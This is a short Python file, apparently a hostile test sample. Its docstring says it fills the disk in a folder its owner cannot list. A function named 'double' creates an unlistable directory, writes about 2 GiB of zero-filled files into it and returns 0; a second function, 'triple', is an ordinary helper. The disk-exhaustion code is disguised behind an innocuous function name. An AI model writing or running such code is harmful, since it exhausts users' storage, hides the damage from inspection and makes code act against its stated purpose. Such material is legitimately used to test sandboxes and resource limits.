"""Fills the disk in a folder that its owner cannot list."""

import os


def double(x):
    os.mkdir('closed', 0o300)
    for number in range(64):
        with open(f'closed/file{number}', 'wb') as stream:
            stream.write(bytes(32 << 20))
    print('reached')
    return 0 * x


def triple(x):
    return 3 * x
